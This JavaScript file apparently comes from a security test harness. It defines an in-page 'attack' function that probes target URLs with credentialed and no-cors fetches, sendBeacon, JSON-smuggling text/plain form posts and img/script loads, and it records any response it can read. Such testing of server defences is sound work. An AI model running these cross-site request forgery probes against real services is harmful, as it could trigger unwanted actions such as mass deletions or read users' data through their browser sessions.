/** Runs in the page: all that a page can do with an address. What it could read of an answer comes back. */
globalThis.attack = async ({ targets, sent }) => {
  const read = []
  const attempt = async (name, what) => {
    try {
      const answer = await what()
      if (answer.type !== "opaque") read.push(`${name}: ${answer.status} ${await answer.text()}`)
    } catch {
      // The browser does not let the page see it.
    }
  }
  const element = (tag, url) =>
    new Promise((resolve) => {
      const made = Object.assign(document.createElement(tag), { src: url })
      made.addEventListener("load", () => resolve())
      made.addEventListener("error", () => resolve())
      document.body.append(made)
    })
  const submit = (url) =>
    new Promise((resolve) => {
      const frame = Object.assign(document.createElement("iframe"), { name: `frame-${Math.random()}` })
      const form = Object.assign(document.createElement("form"), { method: "post", action: url, target: frame.name })
      form.enctype = "text/plain"
      form.append(Object.assign(document.createElement("input"), { name: '{"ids":"all","x":"', value: '"}' }))
      document.body.append(frame, form)
      frame.addEventListener("load", () => resolve())
      form.submit()
    })
  for (const { method, url } of targets) {
    const name = `${method} ${url}`
    const body = method === "GET" ? {} : { body: '{"ids":"all"}' }
    for (const type of ["application/json", "text/plain"]) {
      await attempt(name, () => fetch(url, { method, headers: { "content-type": type }, ...body }))
      await attempt(name, () =>
        fetch(url, { method, headers: { "content-type": type }, credentials: "include", ...body })
      )
    }
    await attempt(name, () => fetch(url, { mode: "no-cors", method: method === "DELETE" ? "POST" : method, ...body }))
    if (method === "POST") navigator.sendBeacon(url, '{"ids":"all"}')
    if (method === "POST") await submit(url)
    if (method === "GET") for (const tag of ["img", "script"]) await element(tag, url)
  }
  const events = targets.find(({ url }) => url.endsWith("/events") && !url.includes("/users/"))
  const answer = await fetch(events.url, { method: "POST", body: sent, mode: "cors" })
  return { read: read.filter((line) => !line.startsWith(`POST ${events.url}:`)), sent: answer.status }
}
